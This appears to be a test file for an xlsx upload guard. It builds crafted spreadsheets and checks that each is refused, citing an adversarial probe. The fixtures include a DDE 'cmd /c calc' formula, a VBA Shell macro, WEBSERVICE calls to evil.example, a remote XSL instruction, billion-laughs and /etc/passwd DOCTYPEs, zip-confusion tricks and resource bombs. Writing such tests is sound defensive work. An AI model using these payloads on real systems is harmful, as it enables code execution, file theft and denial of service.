import ExcelJS from 'exceljs';
import { DomainError } from '../../../core/errors/domain-error';
import { editPart, extraField, makeZip, minimalWorkbook, readZip, rezip, twoDirectories, unicodePathField, SML_TYPE, type ZipInput } from '../../../../test/fixtures/zip';
import { EMISSION_FACTORS } from './factors';
import { MAIN_SHEET } from './layout';
import { buildTemplate } from './template';
import { assertPlainXlsx, MAX_CELL_FORMATS, MAX_STYLE_RECORDS, MAX_XML_DEPTH } from './xlsx-guard';
import '../emissions-errors';

/**
 * The findings of the second adversarial probe of the upload guard (issue #15): zips that two
 * readers read differently, markup that hides formula text, parts the guard did not scan, formulas
 * outside worksheets, unbounded styles and nesting, sheet-qualified ranges. Each fixture is the real
 * designated form with one thing changed.
 */

function refusal(f: () => void) {
  try {
    f();
  } catch (e) {
    if (e instanceof DomainError) return { code: e.code, details: e.details as Record<string, unknown> };
    throw e;
  }
  return undefined;
}

const NS = 'http://schemas.openxmlformats.org';
const SHEET = 'xl/worksheets/sheet1.xml';
const TYPES = '[Content_Types].xml';
const FORM = { boundCells: true, designatedForm: true };
const ELEC = EMISSION_FACTORS[0].label;
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]);

let form: Buffer;
let evilForm: Buffer;
beforeAll(async () => {
  const header = { holderNumber: 'T00001', facility: '施設', fiscalYear: 2013, kind: 'base_year' as const };
  form = await buildTemplate(header, [{ kind: ELEC, quantity: 1000 }]);
  evilForm = await buildTemplate(header, [{ kind: ELEC, quantity: 5000 }]);
});

const entries = (buf: Buffer) => readZip(buf);
const withEntries = (buf: Buffer, change: (list: ZipInput[]) => ZipInput[], layout = {}) => makeZip(change(entries(buf)), layout);
const changeEntry = (name: string, change: Partial<ZipInput>) => (list: ZipInput[]) => list.map((e) => (e.name === name ? { ...e, ...change } : e));
const addType = (p: Map<string, Buffer>, entry: string) => editPart(p, TYPES, '</Types>', `${entry}</Types>`);

async function quantityExcelJsReads(file: Buffer): Promise<unknown> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(file as unknown as ArrayBuffer);
  return wb.getWorksheet(MAIN_SHEET)!.getCell('C8').value;
}

describe('xlsx guard: one zip, read the same by every reader (H1)', () => {
  it('the real form, as the template writes it, is accepted', () => {
    expect(refusal(() => assertPlainXlsx(form, FORM))).toBeUndefined();
    expect(refusal(() => assertPlainXlsx(form))).toBeUndefined();
  });

  it('refuses two central directories: ExcelJS would read the sheet the guard never saw', async () => {
    const file = twoDirectories(entries(form), entries(evilForm));
    expect(await quantityExcelJsReads(file)).toBe(5000); // the trick works on the parser
    expect(refusal(() => assertPlainXlsx(file, FORM))).toMatchObject({
      code: 'FILE_ACTIVE_CONTENT',
      details: { part: 'zip', reason: 'the central directory does not end where the end-of-central-directory record starts' },
    });
  });

  it('refuses the same trick on an attachment whose other view is a macro workbook', () => {
    const cfb = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    const macroView = entries(form).map((e) => (e.name === 'docProps/core.xml' ? { name: 'xl/vbaProject.bin', data: Buffer.concat([cfb, Buffer.from('Sub Workbook_Open()\nShell "calc"\nEnd Sub')]) } : e));
    expect(refusal(() => assertPlainXlsx(twoDirectories(entries(form), macroView)))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part: 'zip' } });
  });

  it.each<[string, () => Buffer, RegExp]>([
    ['bytes after the end record', () => withEntries(form, (l) => l, { trailing: Buffer.from('junk') }), /not at the end of the file/],
    ['a second end-record signature in the archive comment', () => withEntries(form, (l) => l, { comment: Buffer.from('PK\x05\x06 and more', 'latin1') }), /more than one end-of-central-directory signature/],
    ['an end record that counts one entry more', () => withEntries(form, (l) => l, { count: entries(form).length + 1 }), /another number of entries/],
    ['an end record that counts one entry less', () => withEntries(form, (l) => l, { count: entries(form).length - 1 }), /more central-directory entries than the end record counts/],
    ['ZIP64 markers in the end record', () => withEntries(form, (l) => l, { count: 0xffff }), /ZIP64/],
    ['a local entry no directory record names (before the others)', () => withEntries(form, (l) => [{ name: 'xl/worksheets/sheet9.xml', data: Buffer.from('<worksheet/>'), unlisted: true }, ...l]), /bytes before the first zip entry/],
    ['a local entry no directory record names (between two)', () => withEntries(form, (l) => [l[0], { name: 'xl/hidden.xml', data: Buffer.from('<x/>'), unlisted: true }, ...l.slice(1)]), /bytes between zip entries/],
    ['junk between the last entry and the directory', () => withEntries(form, (l) => [...l.slice(0, -1), { ...l[l.length - 1], after: Buffer.from('PK\x03\x04junk', 'latin1') }]), /bytes between the last zip entry and the central directory/],
    ['two directory records for one local entry', () => withEntries(form, (l) => [...l, { name: 'xl/media/image1.png', data: l.find((e) => e.name === SHEET)!.data, pointsAt: SHEET }]), /zip entries overlap/],
  ])('refuses %s', (_name, build, reason) => {
    const found = refusal(() => assertPlainXlsx(build(), FORM));
    expect(found).toMatchObject({ code: 'FILE_ACTIVE_CONTENT' });
    expect(found!.details.reason).toMatch(reason);
  });

  it.each<[string, Partial<ZipInput>, RegExp]>([
    ['a local header with another name', { localName: 'xl/worksheets/sheetX.xml' }, /local and central names differ/],
    ['a local header with another method', { localMethod: 0 }, /compression methods differ/],
    ['a local header with another CRC', { localCrc: 0x12345678 }, /sizes or CRC differ/],
    ['a local header with another size', { localCompressedSize: 3 }, /sizes or CRC differ/],
    ['a local header without the UTF-8 flag of its directory record', { flags: 0x800, localFlags: 0 }, /flags differ/],
    ['a data descriptor that says another CRC', { dataDescriptor: true, localCrc: 0x12345678 }, /data descriptor/],
    ['a Unicode-path extra field', { extra: unicodePathField(SHEET, 'xl/worksheets/sheet2.xml') }, /Unicode path/],
    ['a Unicode-comment extra field', { extra: extraField(0x6375, Buffer.from('\x01\0\0\0\0x', 'latin1')) }, /Unicode comment/],
    ['a ZIP64 extra field', { extra: extraField(0x0001, Buffer.alloc(16)) }, /ZIP64/],
    ['an extra-field block that does not parse', { extra: Buffer.from([0x55, 0x54, 0x40, 0x00, 1, 2]) }, /extra field/],
    ['a file entry with the folder attribute (JSZip skips it)', { externalAttributes: 0x10 }, /marked as a folder/],
    ['a symbolic link', { madeBy: 0x0314, externalAttributes: 0xa1ff0000 }, /symbolic link/],
  ])('refuses %s', (_name, change, reason) => {
    const found = refusal(() => assertPlainXlsx(withEntries(form, changeEntry(SHEET, change)), FORM));
    expect(found).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part: SHEET } });
    expect(found!.details.reason).toMatch(reason);
  });

  it('accepts data descriptors (LibreOffice writes them, with their signature) and an archive comment', () => {
    const described = (kind: true | 'bare') => withEntries(form, (l) => l.map((e) => (e.name.endsWith('/') ? e : { ...e, dataDescriptor: kind, flags: 0x800 })));
    expect(refusal(() => assertPlainXlsx(described(true), FORM))).toBeUndefined();
    expect(refusal(() => assertPlainXlsx(described('bare'), FORM))).toBeUndefined();
    expect(refusal(() => assertPlainXlsx(withEntries(form, (l) => l, { comment: Buffer.from('saved by a tool') }), FORM))).toBeUndefined();
    // extra fields that name nothing else (extended timestamp) are fine
    expect(refusal(() => assertPlainXlsx(withEntries(form, changeEntry(SHEET, { extra: extraField(0x5455, Buffer.from([1, 0, 0, 0, 0])) })), FORM))).toBeUndefined();
  });
});

describe('xlsx guard: names every reader reads alike (H2)', () => {
  it('refuses the probe\'s image entry that JSZip renames to the main sheet (Unicode path field)', async () => {
    const evilSheet = entries(evilForm).find((e) => e.name === SHEET)!.data;
    const file = withEntries(
      rezip(form, (p) => addType(p, '<Default Extension="png" ContentType="image/png"/>')),
      (l) => [...l, { name: 'xl/media/image1.png', data: evilSheet, extra: unicodePathField('xl/media/image1.png', SHEET) }],
    );
    expect(await quantityExcelJsReads(file)).toBe(5000); // JSZip takes the field's name: the parser reads this "image" as the sheet
    expect(refusal(() => assertPlainXlsx(file, FORM))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part: 'xl/media/image1.png', reason: expect.stringMatching(/Unicode path/) } });
  });

  const withImage = (name: string, flags: number, more: ZipInput[] = []) =>
    withEntries(
      rezip(form, (p) => addType(p, '<Default Extension="png" ContentType="image/png"/>')),
      (l) => [...l, { name, data: PNG, flags }, ...more],
    );

  it('a non-ASCII part name needs the UTF-8 flag (unzip and Python read it as CP437 without)', () => {
    expect(refusal(() => assertPlainXlsx(withImage('xl/media/画像.png', 0)))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { reason: 'non-ASCII part name without the UTF-8 flag' } });
    expect(refusal(() => assertPlainXlsx(withImage('xl/media/画像.png', 0x800)))).toBeUndefined();
    // a name that is not UTF-8 at all (both headers): readers each replace the byte their own way
    const bytes = withImage('xl/media/a.png', 0x800);
    for (let at = bytes.indexOf('xl/media/a.png'); at >= 0; at = bytes.indexOf('xl/media/a.png', at + 1)) bytes[at + 9] = 0xff;
    expect(refusal(() => assertPlainXlsx(bytes))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { reason: 'part name is not UTF-8' } });
  });

  it('refuses names that are the same part to Excel: case, Unicode normalisation, percent-encoding', () => {
    const twice = (a: string, b: string) => refusal(() => assertPlainXlsx(withImage(a, 0x800, [{ name: b, data: PNG, flags: 0x800 }])));
    expect(twice('xl/media/Image1.png', 'xl/media/image1.PNG')).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { reason: 'part name given twice' } });
    expect(twice('xl/media/caf\u00e9.png', 'xl/media/cafe\u0301.png')).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { reason: 'part name given twice' } });
    expect(twice('xl/media/a.png', 'xl/media/%61.png')).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { reason: 'part name given twice' } });
  });
});

describe('xlsx guard: no markup that hides formula text, in any XML part (H3, M3)', () => {
  const S2 = 'xl/worksheets/sheet2.xml';
  it.each<[string, (p: Map<string, Buffer>) => void, string, RegExp]>([
    ['a DDE formula in CDATA (attachment sheet)', (p) => editPart(p, S2, '</sheetData>', `<row r="50"><c r="A50"><f><![CDATA[cmd|' /c calc'!A0]]></f><v>0</v></c></row></sheetData>`), S2, /CDATA/],
    ['WEBSERVICE split by an XML comment', (p) => editPart(p, S2, '</sheetData>', '<row r="50"><c r="A50"><f>WEBSERVICE<!-- -->("http://evil.example/")</f><v>0</v></c></row></sheetData>'), S2, /XML comment/],
    ['WEBSERVICE split by an element', (p) => editPart(p, S2, '</sheetData>', '<row r="50"><c r="A50"><f>WEBSERVICE<x/>("http://evil.example/")</f><v>0</v></c></row></sheetData>'), S2, /markup inside a formula/],
    ['a defined name in CDATA', (p) => editPart(p, 'xl/workbook.xml', '</sheets>', '</sheets><definedNames><definedName name="x"><![CDATA[WEBSERVICE("http://evil.example/")]]></definedName></definedNames>'), 'xl/workbook.xml', /CDATA/],
    ['a validation formula split by a comment', (p) => editPart(p, SHEET, '</sheetData>', '</sheetData><dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE<!---->("http://evil.example/")</formula1></dataValidation></dataValidations>'), SHEET, /XML comment/],
    ['a processing instruction in styles.xml', (p) => editPart(p, 'xl/styles.xml', '<styleSheet', '<?xml-stylesheet href="http://evil.example/x.xsl"?><styleSheet'), 'xl/styles.xml', /processing instruction/],
    ['a comment in the theme', (p) => editPart(p, 'xl/theme/theme1.xml', '<a:themeElements>', '<a:themeElements><!-- x -->'), 'xl/theme/theme1.xml', /XML comment/],
    ['CDATA in core.xml', (p) => editPart(p, 'docProps/core.xml', '</cp:coreProperties>', '<dc:title><![CDATA[x]]></dc:title></cp:coreProperties>'), 'docProps/core.xml', /CDATA/],
    ['a UTF-16 part (a UTF-8 scan sees no tags in it)', (p) => p.set('xl/styles.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(p.get('xl/styles.xml')!.toString('utf8').replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le')])), 'xl/styles.xml', /not in UTF-8/],
    ['a declared encoding other than UTF-8', (p) => editPart(p, 'docProps/app.xml', 'encoding="UTF-8"', 'encoding="ISO-8859-1"'), 'docProps/app.xml', /not in UTF-8/],
  ])('refuses %s', (_name, edit, part, reason) => {
    const found = refusal(() => assertPlainXlsx(rezip(form, edit), FORM));
    expect(found).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part } });
    expect(found!.details.reason).toMatch(reason);
  });

  const laughs = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>';
  it.each(['xl/styles.xml', 'xl/theme/theme1.xml', 'docProps/core.xml', 'docProps/app.xml', 'xl/sharedStrings.xml', 'xl/worksheets/sheet3.xml', '_rels/.rels', TYPES])(
    'refuses a DOCTYPE (billion laughs, SYSTEM file) in %s',
    (part) => {
      const build = (doctype: string) => rezip(form, (p) => p.set(part, Buffer.from(p.get(part)!.toString('utf8').replace(/^(<\?xml[^>]*\?>)?/, `$1${doctype}`))));
      for (const doctype of [laughs, '<!DOCTYPE x SYSTEM "file:///etc/passwd">']) {
        expect(refusal(() => assertPlainXlsx(build(doctype), FORM))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part, reason: 'DOCTYPE or entity declaration' } });
        expect(refusal(() => assertPlainXlsx(build(doctype)))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part } });
      }
    },
  );

  it('refuses XML that is not well-formed (an end tag that does not match)', () => {
    expect(refusal(() => assertPlainXlsx(rezip(form, (p) => editPart(p, 'xl/styles.xml', '</fonts>', '</fontz>')), FORM))).toMatchObject({ code: 'NOT_XLSX', details: { part: 'xl/styles.xml' } });
  });

  it('accepts x14 validations whose formula is an <xm:f> inside <x14:formula1>', () => {
    const x14 =
      '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="1" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">' +
      "<x14:dataValidation type=\"list\" allowBlank=\"1\"><x14:formula1>\n  <xm:f>'係数'!$A$2:$A$9</xm:f>\n</x14:formula1><xm:sqref>B8:B57</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>";
    expect(refusal(() => assertPlainXlsx(rezip(form, (p) => editPart(p, SHEET, '</worksheet>', x14)), FORM))).toBeUndefined();
    const evil = x14.replace("<xm:f>'係数'!$A$2:$A$9</xm:f>", '<xm:f>WEBSERVICE("http://evil.example/")</xm:f>');
    expect(refusal(() => assertPlainXlsx(rezip(form, (p) => editPart(p, SHEET, '</worksheet>', evil)), FORM))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { reason: 'function WEBSERVICE not allowed' } });
  });
});

describe('xlsx guard: formulas outside worksheets, by local name (M4)', () => {
  const table = (column: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><table xmlns="${NS}/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="G1:G3"><tableColumns count="1"><tableColumn id="1" name="c">${column}</tableColumn></tableColumns></table>`;
  const withPart = (name: string, type: string, xml: string) =>
    rezip(form, (p) => {
      p.set(name, Buffer.from(xml));
      addType(p, `<Override PartName="/${name}" ContentType="${type}"/>`);
    });
  const tablePart = (column: string) => withPart('xl/tables/table1.xml', `${SML_TYPE}.table+xml`, table(column));
  const chartPart = (ref: string) =>
    withPart(
      'xl/charts/chart1.xml',
      'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
      `<?xml version="1.0" encoding="UTF-8"?><c:chartSpace xmlns:c="${NS}/drawingml/2006/chart"><c:chart><c:plotArea><c:barChart><c:ser><c:idx val="0"/><c:val><c:numRef><c:f>${ref}</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>`,
    );

  it('a table column formula: WEBSERVICE refused in an attachment, SUM accepted there, any refused in a report', () => {
    expect(refusal(() => assertPlainXlsx(tablePart('<calculatedColumnFormula>WEBSERVICE("http://evil.example/")</calculatedColumnFormula>')))).toMatchObject({
      code: 'FILE_ACTIVE_CONTENT',
      details: { part: 'xl/tables/table1.xml', reason: 'function WEBSERVICE not allowed' },
    });
    expect(refusal(() => assertPlainXlsx(tablePart('<totalsRowFormula>_xlfn.WEBSERVICE("x")</totalsRowFormula>')))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT' });
    expect(refusal(() => assertPlainXlsx(tablePart('<calculatedColumnFormula>SUM(T[c])</calculatedColumnFormula>')))).toBeUndefined();
    expect(refusal(() => assertPlainXlsx(tablePart('<calculatedColumnFormula>SUM(1,2)</calculatedColumnFormula>'), FORM))).toMatchObject({
      code: 'FILE_ACTIVE_CONTENT',
      details: { reason: 'formula outside the designated form' },
    });
  });

  it('a chart reference: a plain range accepted, WEBSERVICE refused', () => {
    expect(refusal(() => assertPlainXlsx(chartPart("'算定報告書'!$C$8:$C$57")))).toBeUndefined();
    expect(refusal(() => assertPlainXlsx(chartPart('WEBSERVICE("http://evil.example/")')))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part: 'xl/charts/chart1.xml' } });
  });

  it('a cell formula whose prefix is bound to the main namespace (<xm:f> at H90) is a cell formula', () => {
    const bound = rezip(form, (p) => {
      editPart(p, SHEET, /<worksheet /, `<worksheet xmlns:xm="${NS}/spreadsheetml/2006/main" `);
      editPart(p, SHEET, '</sheetData>', '<row r="90"><xm:c r="H90"><xm:f>SUM(1,2)</xm:f></xm:c></row></sheetData>');
    });
    expect(refusal(() => assertPlainXlsx(bound, FORM))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { part: SHEET, cell: 'H90', reason: 'formula outside the designated form' } });
  });

  it('a cell formula wrapped in markup-compatibility elements is still the cell\'s', () => {
    const wrapped = rezip(form, (p) =>
      editPart(p, SHEET, '</sheetData>', '<row r="90"><c r="H90"><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x14"><f>SUM(1,2)</f></mc:Choice></mc:AlternateContent></c></row></sheetData>'),
    );
    expect(refusal(() => assertPlainXlsx(wrapped, FORM))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { cell: 'H90', reason: 'formula outside the designated form' } });
  });

  it('a conditional format threshold (cfvo) is a formula', () => {
    const cf = (value: string) =>
      rezip(form, (p) => editPart(p, SHEET, '</sheetData>', `</sheetData><conditionalFormatting sqref="C8:C57"><cfRule type="dataBar" priority="1"><dataBar><cfvo type="min"/><cfvo type="formula" val="${value}"/><color rgb="FF638EC6"/></dataBar></cfRule></conditionalFormatting>`));
    expect(refusal(() => assertPlainXlsx(cf('MAX($C$8:$C$57)'), FORM))).toBeUndefined();
    expect(refusal(() => assertPlainXlsx(cf('WEBSERVICE(&quot;http://evil.example/&quot;)'), FORM))).toMatchObject({ code: 'FILE_ACTIVE_CONTENT', details: { reason: 'function WEBSERVICE not allowed' } });
  });

  it('a shape bound to a macro, in a drawing', () => {
    const drawing = `<?xml version="1.0" encoding="UTF-8"?><xdr:wsDr xmlns:xdr="${NS}/drawingml/2006/spreadsheetDrawing"><xdr:oneCellAnchor><xdr:sp macro="[0]!Evil" textlink=""/></xdr:oneCellAnchor></xdr:wsDr>`;
    expect(refusal(() => assertPlainXlsx(withPart('xl/drawings/drawing1.xml', 'application/vnd.openxmlformats-officedocument.drawing+xml', drawing)))).toMatchObject({ code: 'MACRO_ENABLED' });
    expect(refusal(() => assertPlainXlsx(withPart('xl/drawings/drawing1.xml', 'application/vnd.openxmlformats-officedocument.drawing+xml', drawing.replace('[0]!Evil', ''))))).toBeUndefined();
  });
});

describe('xlsx guard: counted bounds on styles, nesting, columns and sheet-qualified ranges (M1, M5)', () => {
  // records that differ, as a real file's do (identical ones compress past the zip-bomb ratio)
  const styles = (list: string, record: (i: number) => string, n: number) =>
    rezip(form, (p) => editPart(p, 'xl/styles.xml', new RegExp(`<${list} count="\\d+"([^>]*)>`), `<${list} count="${n}"$1>${Array.from({ length: n }, (_, i) => record(i)).join('')}`));

  it(`refuses more cell formats than Excel allows (${MAX_CELL_FORMATS}) and more than ${MAX_STYLE_RECORDS} fonts; the template's styles pass`, () => {
    expect(refusal(() => assertPlainXlsx(styles('cellXfs', (i) => `<xf numFmtId="${i % 50}" fontId="${i % 7}" fillId="0" borderId="${i % 3}" xfId="0" applyNumberFormat="${i}"/>`, 100_000), FORM))).toMatchObject({
      code: 'FILE_TOO_COMPLEX',
      details: { part: 'xl/styles.xml', what: 'cellXfs', limit: MAX_CELL_FORMATS },
    });
    expect(refusal(() => assertPlainXlsx(styles('fonts', (i) => `<font><sz val="${i}"/></font>`, 60_000)))).toMatchObject({ code: 'FILE_TOO_COMPLEX', details: { what: 'fonts', limit: MAX_STYLE_RECORDS } });
    expect(refusal(() => assertPlainXlsx(styles('fonts', (i) => `<font><sz val="${i}"/></font>`, 500), FORM))).toBeUndefined();
  });

  it(`refuses elements nested deeper than ${MAX_XML_DEPTH} (100,000 distinct names) in styles.xml and in a sheet`, () => {
    const deep = (n: number) => Array.from({ length: n }, (_, i) => `<e${i}>`).join('') + Array.from({ length: n }, (_, i) => `</e${n - 1 - i}>`).join('');
    const nested = (part: string, n: number) => rezip(form, (p) => editPart(p, part, /<\/(styleSheet|worksheet)>/, `<extLst><ext uri="x">${deep(n)}</ext></extLst></$1>`));
    for (const part of ['xl/styles.xml', SHEET]) {
      expect(refusal(() => assertPlainXlsx(nested(part, 100_000), FORM))).toMatchObject({ code: 'FILE_TOO_COMPLEX', details: { part, what: 'depth', limit: MAX_XML_DEPTH } });
      expect(refusal(() => assertPlainXlsx(nested(part, 20), FORM))).toBeUndefined();
    }
  });

  it('refuses a column range past XFD (ExcelJS builds one object per column number)', () => {
    const cols = rezip(form, (p) => editPart(p, SHEET, /<cols>/, '<cols><col min="1" max="100000000" width="9"/>'));
    expect(refusal(() => assertPlainXlsx(cols, FORM))).toMatchObject({ code: 'FILE_TOO_COMPLEX', details: { what: 'columns' } });
  });

  it('refuses the probe\'s 11 KB sqref of 80 × x!A1:Z20000 fast (sheet-qualified ranges counted as their area)', () => {
    const bomb = rezip(form, (p) => editPart(p, SHEET, '</worksheet>', `<dataValidations count="1"><dataValidation type="whole" sqref="${Array.from({ length: 80 }, () => 'x!A1:Z20000').join(' ')}"><formula1>0</formula1></dataValidation></dataValidations></worksheet>`));
    expect(bomb.length).toBeLessThan(16 * 1024);
    const started = performance.now();
    expect(refusal(() => assertPlainXlsx(bomb, FORM))).toMatchObject({ code: 'FILE_TOO_COMPLEX', details: { what: 'ruleCells', range: 'x!A1:Z20000', cells: 520_000 } });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it.each([
    ["'Sheet name'!A1:Z20000 ", 'ruleCells'],
    ['x!A1:x!Z20000 '.repeat(2), 'ruleCells'],
    ['A1:B99999999', 'ruleCells'], // not a range Excel writes: ExcelJS reads it as 200 million cells
    ['A1:B2:C3', 'ruleCells'],
  ])('counts or refuses the validation range %s', (sqref, what) => {
    const file = rezip(form, (p) => editPart(p, SHEET, '</worksheet>', `<dataValidations count="1"><dataValidation type="whole" sqref="${sqref.repeat(10).trim()}"><formula1>0</formula1></dataValidation></dataValidations></worksheet>`));
    expect(refusal(() => assertPlainXlsx(file, FORM))).toMatchObject({ code: 'FILE_TOO_COMPLEX', details: { what } });
  });

  it('counts sheet-qualified ranges in x14 <xm:sqref> too', () => {
    const x14 = `<extLst><ext uri="x"><x14:dataValidations xmlns:x14="x" xmlns:xm="m"><x14:dataValidation><xm:sqref>${'x!A1:A1000 '.repeat(201)}</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>`;
    expect(refusal(() => assertPlainXlsx(rezip(form, (p) => editPart(p, SHEET, '</worksheet>', x14)), FORM))).toMatchObject({ code: 'FILE_TOO_COMPLEX', details: { what: 'ruleCells' } });
  });

  it('a minimal workbook still passes (no XML declaration, no styles)', () => {
    expect(refusal(() => assertPlainXlsx(makeZip(minimalWorkbook(`<worksheet xmlns="${NS}/spreadsheetml/2006/main"><sheetData/></worksheet>`))))).toBeUndefined();
  });
});
